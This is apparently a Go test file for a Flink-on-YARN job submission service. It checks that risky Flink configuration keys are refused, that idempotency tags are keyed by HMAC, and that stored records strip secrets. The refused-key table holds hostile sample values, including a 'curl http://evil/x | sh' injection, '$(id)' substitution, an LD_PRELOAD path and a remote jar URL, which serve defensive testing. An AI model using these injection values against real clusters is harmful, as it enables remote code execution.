package job

import (
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"strings"
	"testing"

	"github.com/yarngate/yarngate/api"
	"github.com/yarngate/yarngate/ident"
)

// refusedKeyCases are a key of each kind the issue lists, with a value a caller might try.
var refusedKeyCases = []struct{ key, value string }{
	{"env.java.opts.jobmanager", "-Dx=1; curl http://evil/x | sh #"},
	{"env.java.opts", "-Dx=1"},
	{"env.java.opts.taskmanager", "-XX:OnOutOfMemoryError=id"},
	{"containerized.master.env.LD_PRELOAD", "/tmp/x.so"},
	{"containerized.taskmanager.env.FOO", "$(id)"},
	{"yarn.container-start-command-template", "%java% %class%; id"},
	{"yarn.tags", "yarngate-idem:0123456789abcdef"},
	{"yarn.application.name", "other"},
	{"yarn.application.queue", "root.other"},
	{"yarn.view.acls", "*"},
	{"yarn.modify.acls", "*"},
	{"high-availability.type", "zookeeper"},
	{"high-availability.storageDir", "hdfs:///ha"},
	{"high-availability.zookeeper.quorum", "evil:2181"},
	{"$internal.pipeline.job-id", "00000000000000000000000000000000"},
	{"rest.port", "8081"},
	{"rest.bind-address", "0.0.0.0"},
	{"web.submit.enable", "false"},
	{"web.cancel.enable", "false"},
	{"security.kerberos.login.keytab", "/etc/k.keytab"},
	{"security.ssl.rest.enabled", "true"},
	{"pipeline.classpaths", "http://evil/x.jar"},
	{"pipeline.jars", "hdfs:///x.jar"},
	{"execution.target", "local"},
	{"execution.shutdown-on-application-finish", "false"},
	{"jobmanager.archive.fs.dir", "hdfs:///elsewhere"},
}

// TestSubmitRefusesFlinkConfigKeys: each refused key is a SpecError naming flinkConfig.<key> for a job and for
// a session, before the launcher is asked anything.
func TestSubmitRefusesFlinkConfigKeys(t *testing.T) {
	s := newTestService(t, nil)
	for _, tc := range refusedKeyCases {
		t.Run(tc.key, func(t *testing.T) {
			req := jobRequest(goodID)
			req.FlinkConfig = map[string]any{tc.key: tc.value, "execution.checkpointing.interval": "10s"}
			_, _, err := s.Submit(t.Context(), req, "key-"+tc.key)
			assertRefused(t, err, tc.key, tc.value)
			_, _, err = s.CreateSession(t.Context(), api.SessionRequest{FlinkConfig: map[string]any{tc.key: tc.value}}, "")
			assertRefused(t, err, tc.key, tc.value)
		})
	}
	if n := len(s.launcher.specs); n != 0 {
		t.Fatalf("the launcher prepared %d launches of refused requests", n)
	}
}

func assertRefused(t *testing.T, err error, key, value string) {
	t.Helper()
	var se *api.SpecError
	if !errors.As(err, &se) || len(se.Problems) != 1 || se.Problems[0].Field != "flinkConfig."+key || se.Problems[0].Reason != reasonOf(key, value) {
		t.Fatalf("err = %v, want one problem on flinkConfig.%s", err, key)
	}
}

// TestIdempotencyTagIsKeyed: the tag that records an idempotency key in YARN is the HMAC under the service's
// secret, not a hash anyone can compute from a guessed key.
func TestIdempotencyTagIsKeyed(t *testing.T) {
	s := newTestService(t, nil)
	if _, _, err := s.Submit(t.Context(), jobRequest(goodID), "guessable-key"); err != nil {
		t.Fatal(err)
	}
	tags := s.launcher.specs[0].Tags
	want, _ := ident.IdempotencyTags(s.opts.IdempotencySecret, "", scopedKey(s.caller(t.Context()), "guessable-key"), "")
	plain := sha256.Sum256([]byte("guessable-key"))
	if len(tags) != 2 || tags[0] != want || tags[0] == ident.TagIdemPrefix+hex.EncodeToString(plain[:20]) {
		t.Fatalf("tags %v, want the keyed tag %s", tags, want)
	}
}

// TestRecordKeepsNoSecrets: the request stored in a record has no secret of its flinkConfig (Flink's sensitive
// keys and more), no credentials of URIs, no secret-looking argument; for jobs and sessions.
func TestRecordKeepsNoSecrets(t *testing.T) {
	secrets := []string{"hunter2", "s3cr3t", "AKIAXYZ", "dd-api", "azkey", "jaaspw", "bearer-tok", "sigvalue", "pgpass"}
	cfg := map[string]any{
		"metrics.reporter.dd.apikey":                     "dd-api",
		"fs.azure.account.key.acct.dfs.core.windows.net": "azkey",
		"properties.sasl.jaas.config":                    "org.apache...PlainLoginModule required password=\"jaaspw\";",
		"metrics.reporter.otel.http-headers":             "Authorization: Bearer bearer-tok",
		"s3.access-key":                                  "AKIAXYZ",
		"state.checkpoints.dir":                          "s3://AKIAXYZ:s3cr3t@bucket/ck",
		"metrics.reporter.prom.port":                     float64(9249),
		"connector.url":                                  "https://acct.blob.core.windows.net/c?sv=1&sig=sigvalue",
		"containerized.taskmanager.env.MY_TOKEN":         "hunter2",
		"execution.checkpointing.interval":               "10s",
	}
	s := newTestService(t, nil)
	req := jobRequest(goodID)
	req.Args = []string{"--password", "hunter2", "--db", "jdbc:postgresql://alice:pgpass@db/x", "--n", "10"}
	req.FlinkConfig = cfg
	job, _, err := s.Submit(t.Context(), req, "")
	if err != nil {
		t.Fatal(err)
	}
	sess, _, err := s.CreateSession(t.Context(), api.SessionRequest{FlinkConfig: cfg}, "")
	if err != nil {
		t.Fatal(err)
	}
	for _, id := range []string{job.ID, sess.ID} {
		rec, err := s.reg.Get(t.Context(), id)
		if err != nil {
			t.Fatal(err)
		}
		spec := string(rec.Spec)
		for _, secret := range secrets {
			if strings.Contains(spec, secret) {
				t.Errorf("record %s keeps %q: %s", id, secret, spec)
			}
		}
		for _, kept := range []string{"10s", "9249", "bucket/ck", "acct.blob.core.windows.net"} {
			if !strings.Contains(spec, kept) {
				t.Errorf("record %s lost %q: %s", id, kept, spec)
			}
		}
	}
}
